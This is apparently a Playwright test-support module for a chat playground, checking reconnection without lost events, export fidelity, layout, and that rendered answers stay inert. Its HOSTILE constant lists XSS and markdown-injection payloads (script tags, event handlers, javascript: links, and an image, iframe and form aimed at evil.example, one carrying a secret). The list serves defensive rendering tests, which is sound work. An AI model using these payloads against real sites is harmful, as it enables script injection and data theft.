import { readFile } from 'node:fs/promises';
import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { createClient } from '../../client/index.js';
import { STORY } from '../../server/demo/story.js';
import type { GatewayEvent } from '../../shared/events.js';
import { openPage } from '../support/browser.js';
import { closeLater } from '../support/resources.js';

/** A page of the playground, as a person uses it, and what it did that it may not. */
export interface Playground {
  readonly page: Page;
  /** Errors, refusals of the page's policy, and requests to other hosts. */
  readonly problems: string[];
}

/** Opens the playground. Requests to any other host than its own are problems, also those that fail. */
export async function openPlayground(url: string, flags: readonly string[] = []): Promise<Playground> {
  const { page, problems } = await openPage('about:blank', flags);
  const { host } = new URL(url);
  watch(page, host, problems);
  await page.goto(url);
  return { page, problems };
}

/** Has a page tell what it did that it may not. */
export function watch(page: Page, host: string, problems: string[]): void {
  page.on('pageerror', (error) => problems.push(String(error)));
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) problems.push(message.text());
  });
  const heard = (address: string) => {
    const { protocol, host: asked } = new URL(address);
    if (!/^(?:data|blob|about):$/.test(protocol) && asked !== host) problems.push(`asked ${address}`);
  };
  page.on('request', (request) => heard(request.url()));
  page.on('websocket', (socket) => heard(socket.url()));
}

export const messageBox = (page: Page) => page.getByLabel('Message', { exact: true });

/** Writes a message and sends it. */
export async function say(page: Page, text: string): Promise<void> {
  await messageBox(page).fill(text);
  await messageBox(page).press('Enter');
}

/** Text of the conversation; the list of sessions may have it too. */
export const said = (page: Page, text: string) => page.locator('.messages').getByText(text);

/** Waits until so many answers are complete. */
export async function answers(page: Page, many: number): Promise<void> {
  await page.waitForFunction(
    (wanted) => [...document.querySelectorAll('.message.assistant .outcome')].length >= wanted,
    many,
  );
}

/** A figure of the counter. */
export async function counted(page: Page, name: string): Promise<number> {
  return Number(await page.locator(`[data-counter="${name}"]`).textContent());
}

/** Goes to a view where there is room for one at a time, and where the conversation stays beside it. */
export async function show(page: Page, view: string): Promise<void> {
  await page
    .getByRole('navigation', { name: 'Views' })
    .getByRole('link', { name: view, exact: true })
    .click();
}

/** Saves the events that the page has seen, as a person does. */
export async function exported(page: Page): Promise<GatewayEvent[]> {
  await show(page, 'Timeline');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export NDJSON' }).click(),
  ]);
  const lines = (await readFile(await download.path(), 'utf8')).trim().split('\n');
  return lines.map((line) => JSON.parse(line));
}

/** The log of a session, read by another client and without a cut, to its last event. */
export async function logOf(
  baseUrl: string,
  token: string | undefined,
  sessionId = 'main',
): Promise<GatewayEvent[]> {
  const client = closeLater(createClient({ baseUrl, token }), (it) => it.disconnect());
  const { head } = await client.status(sessionId);
  const events: GatewayEvent[] = [];
  for await (const event of client.events(sessionId, { from: 'earliest' })) {
    events.push(event);
    if (event.cursor?.endsWith(`.${head}`)) break;
  }
  expect(events).to.have.length(head);
  return events;
}

/** How often a connection is cut, to see that it never costs an event. */
export const CUTS = 20;

/**
 * Cuts the connection in the middle of answers, so many times, each time after more of one has come.
 *
 * @param before Answers that there are already; the page may not show them again yet.
 */
export async function cutInAnswers(page: Page, before = 0): Promise<number> {
  let begun = 0;
  await show(page, 'Network');
  const cut = page.getByRole('banner').getByRole('button', { name: 'Cut connection' });
  const complete = page.locator('.message.assistant .outcome');
  for (let cuts = 0; cuts < CUTS; ) {
    if ((await complete.count()) >= before + begun) {
      await say(page, 'story');
      begun += 1;
    }
    // An answer may end at any moment: only one that goes on is cut.
    const goesOn = await page.waitForFunction(
      ([delivered, ends]) => {
        if (document.querySelectorAll('.message.assistant .outcome').length >= ends!) return 'no';
        const now = Number(document.querySelector('[data-counter="delivered"]')!.textContent);
        return document.querySelector('.growing') && now > delivered! ? 'yes' : null;
      },
      [await counted(page, 'delivered'), before + begun],
    );
    if ((await goesOn.jsonValue()) === 'no') continue;
    const resumed = await counted(page, 'resumed');
    await cut.click();
    await page.waitForFunction(
      (seen) => Number(document.querySelector('[data-counter="resumed"]')!.textContent) > seen,
      resumed,
    );
    cuts += 1;
  }
  await answers(page, before + begun);
  await page.locator('.growing').waitFor({ state: 'detached' });
  return begun;
}

/** What the page shows of its answers. */
const shownAnswers = async (page: Page) =>
  (await page.locator('.message.assistant .markdown').allTextContents()).map((text) => text.trim());

/** Compares what the page saw with the log, event by event, and its counter with both. */
export async function expectWhole(
  page: Page,
  { url, token }: { readonly url: string; readonly token: string },
  begun: number,
  resumed: number,
): Promise<void> {
  const log = await logOf(url, token);
  await page.waitForFunction(
    (head) => Number(document.querySelector('[data-counter="delivered"]')!.textContent) >= head,
    log.length,
  );
  const counters = async (...names: string[]) =>
    Object.fromEntries(await Promise.all(names.map(async (name) => [name, await counted(page, name)])));
  expect(await counters('delivered', 'lost', 'doubled', 'resumed')).to.deep.equal({
    ...{ delivered: log.length, lost: 0, doubled: 0, resumed },
  });
  const story = STORY.join(' ');
  expect(await shownAnswers(page)).to.deep.equal(Array(begun).fill(story));
  expect(await exported(page)).to.deep.equal(log);
}

/** What a model might be led to write, and a person as well. */
export const HOSTILE = [
  '<script>globalThis.harmed = "script"</script>',
  '<img src="x" onerror="globalThis.harmed = 1"><svg onload="globalThis.harmed = 2"></svg>',
  '[click](javascript:globalThis.harmed=3) <javascript:globalThis.harmed=4> [data](data:text/html,<script>harmed=5</script>)',
  '![pixel](https://evil.example/pixel.png?secret) ![x](javascript:harmed)',
  '<iframe src="https://evil.example"></iframe><base href="https://evil.example/"><style>* { display: none }</style>',
  '<form action="https://evil.example"><button>Approve</button></form>',
  '[ref]\n\n[ref]: javascript:harmed "title"',
  '<a href="https://evil.example" target=_self>in HTML</a> &lt;b&gt; &#x3C;img src=x onerror=harmed=6&#x3E;',
  '```\n</code></pre><script>harmed = 7</script>\n```',
  `| a | b |\n|---|---|\n| <script>harmed=8</script> | [x](vbscript:harmed) |`,
].join('\n\n');

/** Makes sure that the answer with the hostile text is shown as text, and that nothing of it came true. */
export async function expectInert(page: Page): Promise<void> {
  const answer = page.locator('.message.assistant .markdown', { hasText: 'harmed = "script"' });
  expect(await answer.textContent()).to.contain('<script>globalThis.harmed = "script"</script>');
  expect(
    await answer
      .locator(
        ':is(script, img, svg, iframe, base, style, form, button, [onerror]):not(.code-block figcaption *)',
      )
      .count(),
  ).to.equal(0);
  const links = await answer.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  expect(links).to.deep.equal(['https://evil.example/pixel.png?secret']);
  expect(await answer.locator('a').getAttribute('rel')).to.equal('noopener noreferrer');
  expect(await answer.locator('pre').textContent()).to.contain('</code></pre><script>');
  expect(await answer.textContent())
    .to.contain('<b>')
    .and.contain('<img src=x onerror=harmed=6>');
  expect(await page.evaluate(() => (globalThis as any).harmed)).to.equal(undefined);
}

/** Makes sure that nothing of a page is wider than the screen. */
export async function expectToFit(page: Page, view: string): Promise<void> {
  const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  expect(over, `${view} is wider than the screen`).to.be.at.most(0);
}
